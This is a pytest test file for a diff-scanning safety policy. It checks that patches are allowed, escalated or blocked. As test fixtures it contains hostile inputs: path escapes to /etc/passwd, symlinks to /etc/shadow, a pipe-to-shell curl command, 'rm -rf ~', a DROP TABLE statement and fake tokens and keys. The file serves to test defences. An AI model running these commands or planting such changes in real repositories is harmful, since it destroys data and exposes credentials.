"""Unified diffs → rules and verdicts."""

import pytest
from safety_diffs import added, binary, modified
from wave_constitution import Diff, SafetyPolicy, score

POLICY = SafetyPolicy()
GITHUB_TOKEN = "ghp_" + "Zx9Qw8Er7Ty6Ui5Op4As" * 2
RANDOM_40 = "q7Xz2LmR9vKp4TnW8sYb3JcH6dFg1AeU5oNi0rBk"


def judged(diff: str, policy: SafetyPolicy = POLICY) -> tuple[set[str], str]:
    verdict = score(Diff(diff), policy)
    return {v.rule for v in verdict.violations}, verdict.verdict


@pytest.mark.parametrize(
    ("diff", "rules", "verdict"),
    [
        (
            "--- a/../../etc/passwd\n+++ b/../../etc/passwd\n@@ -0,0 +1 @@\n+x\n",
            {"diff.path_escape"},
            "block",
        ),
        ("--- /dev/null\n+++ /etc/cron.d/x\n@@ -0,0 +1 @@\n+x\n", {"diff.path_escape"}, "block"),
        (added("docs/../../x", "y"), {"diff.path_escape"}, "block"),
        (added("link", "src/real.py", mode="120000"), {"diff.symlink"}, "escalate"),
        (added("link", "/etc/shadow", mode="120000"), {"diff.symlink_escape"}, "block"),
        (added("a/link", "../../secrets", mode="120000"), {"diff.symlink_escape"}, "block"),
        (added(".git/hooks/pre-commit", "echo hi"), {"diff.git_dir"}, "block"),
        (
            modified(".github/workflows/ci.yml", "on: push", "on: [push, pull_request]"),
            {"diff.ci_file"},
            "escalate",
        ),
        (added(".gitlab-ci.yml", "test: {}"), {"diff.ci_file"}, "escalate"),
        (added("Jenkinsfile", "pipeline {}"), {"diff.ci_file"}, "escalate"),
        (added(".env", "DEBUG=1"), {"diff.credential_file"}, "escalate"),
        (added("deploy/id_rsa", "not really a key"), {"diff.credential_file"}, "escalate"),
        (added("certs/site.pem", "cert"), {"diff.credential_file"}, "escalate"),
        (added(".aws/credentials", "[default]"), {"diff.credential_file"}, "escalate"),
        (
            added(".npmrc", "//registry.npmjs.org/:_authToken=${NPM_TOKEN}"),
            {"diff.credential_file"},
            "escalate",
        ),
        (modified("src/config.py", "X = 1", f'TOKEN = "{GITHUB_TOKEN}"'), {"diff.secret"}, "block"),
        (modified("src/config.py", "X = 1", f'X = "{RANDOM_40}"'), {"diff.possible_secret"}, "escalate"),
        (
            modified("src/db.py", "X = 1", 'db_password = "correct-horse-battery"'),
            {"diff.possible_secret"},
            "escalate",
        ),
        (
            added("k.txt", "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----"),
            {"diff.secret"},
            "block",
        ),
        (binary("model.bin", 5_000_000), {"diff.binary_blob"}, "escalate"),
        (
            "diff --git a/x.so b/x.so\nnew file mode 100644\nindex 0000000..5555555\nBinary files /dev/null and b/x.so differ\n",
            {"diff.binary_blob"},
            "escalate",
        ),
        (
            added("install.sh", "#!/bin/sh\ncurl -s https://get.example.sh | sh"),
            {"shell.pipe_to_shell", "shell.network_egress"},
            "block",
        ),
        (modified("Makefile", "all:\n\tmake b", "all:\n\trm -rf ~"), {"shell.rm_root"}, "block"),
        (added("migrations/9_drop.sql", "DROP TABLE users;"), {"sql.drop"}, "block"),
        (added(".envrc", "export A=1"), {"diff.exec_dotfile"}, "escalate"),
        ("just some words\n", {"diff.malformed"}, "escalate"),
        ("@@ -1 +1 @@\n-a\n+b\n", {"diff.malformed"}, "escalate"),
    ],
)
def test_diff_rules(diff: str, rules: set[str], verdict: str) -> None:
    assert judged(diff) == (rules, verdict)


@pytest.mark.parametrize(
    "diff",
    [
        modified("src/app.py", "return a - b", "return a + b"),
        added("tests/test_app.py", "def test_x():\n    assert 1 + 1 == 2"),
        added("migrations/10_phone.sql", "ALTER TABLE users ADD COLUMN phone TEXT;"),
        added(".env.example", "API_KEY=changeme"),
        added("docs/logo.png.txt", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"),
        binary("docs/logo.png", 2048),
        modified("package-lock.json", '"a": 1', f'"integrity": "sha512-{RANDOM_40}{RANDOM_40}=="'),
        "diff --git a/old.py b/new.py\nsimilarity index 100%\nrename from old.py\nrename to new.py\n",
        "diff --git a/gone.py b/gone.py\ndeleted file mode 100644\n--- a/gone.py\n+++ /dev/null\n@@ -1 +0,0 @@\n-x = 1\n",
    ],
)
def test_ordinary_diffs_are_allowed(diff: str) -> None:
    assert judged(diff) == (set(), "allow")


def test_an_added_line_that_starts_with_plus_signs_is_content_not_a_header() -> None:
    diff = "diff --git a/n.md b/n.md\n--- a/n.md\n+++ b/n.md\n@@ -1 +1,2 @@\n a\n++++ b/../../etc/x\n"
    assert judged(diff) == (set(), "allow")


def test_binary_size_limit_comes_from_the_policy() -> None:
    assert judged(binary("a.bin", 5000), SafetyPolicy(max_binary_bytes=1000)) == (
        {"diff.binary_blob"},
        "escalate",
    )
    assert judged(binary("a.bin", 5000), SafetyPolicy(max_binary_bytes=10_000)) == (set(), "allow")


def test_violation_details_never_repeat_the_secret() -> None:
    verdict = score(Diff(modified("a.py", "x", f'T = "{GITHUB_TOKEN}"')), POLICY)
    assert verdict.violations and all(GITHUB_TOKEN not in v.detail for v in verdict.violations)
